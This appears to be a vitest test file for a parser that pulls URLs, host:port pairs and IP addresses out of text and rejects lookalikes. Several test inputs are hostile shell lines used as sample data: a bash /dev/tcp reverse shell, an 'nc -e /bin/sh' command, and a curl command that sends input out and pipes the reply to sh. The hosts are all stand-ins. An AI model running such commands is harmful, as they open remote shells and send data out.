import { describe, expect, it } from 'vitest';
import { destinationIn, destinationsIn, hostIn } from './destinations.ts';

describe('destinationsIn', () => {
  it.each([
    ['a URL', 'https://quay.invalid/in?x=1', ['https://quay.invalid/in?x=1']],
    ['the first part of a URL', 'https://quay.invalid/', ['https://quay.invalid/']],
    [
      'URLs in a sentence',
      'See https://quay.test/a, or (wss://tide.test:8443).',
      ['https://quay.test/a', 'wss://tide.test:8443'],
    ],
    ['a URL in a command', "curl -d @- 'https://quay.invalid' | sh", ['https://quay.invalid']],
    ['a URL of another scheme', 'tcp://quay.invalid:4444', ['tcp://quay.invalid:4444']],
    ['a URL with a part that is not constant', 'https://*.quay.invalid/x', ['https://*.quay.invalid/x']],
    ['a URL of this machine', 'http://localhost:3000/mcp', ['http://localhost:3000/mcp']],
    ['a URL of an IPv6 address', 'http://[2001:db8::1]:80/x', ['http://[2001:db8::1]:80/x']],
    ['host and port', 'quay.invalid:8000', ['quay.invalid:8000']],
    ['address and port', '240.1.2.3:4444', ['240.1.2.3:4444']],
    ['address and port in a text', 'connect 240.1.2.3:4444 now', ['240.1.2.3:4444']],
    ['a public address', '240.1.2.3', ['240.1.2.3']],
    ['a public IPv6 address', '2606:4700::1111', ['2606:4700::1111']],
    ['a device of the shell', 'bash -i >& /dev/tcp/240.1.2.3/4444 0>&1', ['240.1.2.3:4444']],
    ['what nc connects to', 'nc -e /bin/sh quay.invalid 4444', ['quay.invalid:4444']],
    ['one twice', 'https://quay.test https://quay.test', ['https://quay.test']],
  ])('%s', (_what, text, expected) => {
    expect(destinationsIn(text)).toEqual(expected);
  });

  it.each([
    ['a bare name', 'tidewater.example'],
    ['a file', 'tides.json'],
    ['a scheme alone', 'https://'],
    ['a host that is not constant', 'https://*/x'],
    ['a host that is cut off', 'https://api.'],
    ['a version of four numbers', '1.2.3.4'],
    ['no address', '120.0.6099.109'],
    ['an address of this network', '192.168.0.1'],
    ['an address of this machine', '127.0.0.1'],
    ['an address kept for documents', '198.51.100.7'],
    ['a module', 'node:fs'],
    ['a time', '12:30'],
    ['a port that is none', 'quay.invalid:70000'],
    ['a pair of names', 'harbor:tide'],
    ['nothing', ''],
  ])('%s is none', (_what, text) => {
    expect(destinationIn(text)).toBeNull();
  });

  it('stops at fifty', () => {
    const text = Array.from({ length: 60 }, (_, index) => `https://q${index}.test`).join(' ');
    expect(destinationsIn(text)).toHaveLength(50);
  });

  it('cuts a long URL', () => {
    expect(destinationIn(`https://quay.invalid/${'a'.repeat(900)}`)).toHaveLength(500);
  });
});

describe('hostIn', () => {
  it.each([
    ['quay.invalid', 'quay.invalid'],
    ['*.quay.invalid', '*.quay.invalid'],
    ['localhost', 'localhost'],
    ['10.0.0.1', '10.0.0.1'],
    ['https://quay.invalid/x', 'https://quay.invalid/x'],
    ['quay.invalid:80', 'quay.invalid:80'],
  ])('%s is the destination %s', (text, expected) => {
    expect(hostIn(text)).toBe(expected);
  });

  it.each([[''], ['/tides'], ['*'], ['harbor'], ['GET']])('"%s" is none', (text) => {
    expect(hostIn(text)).toBeNull();
  });
});
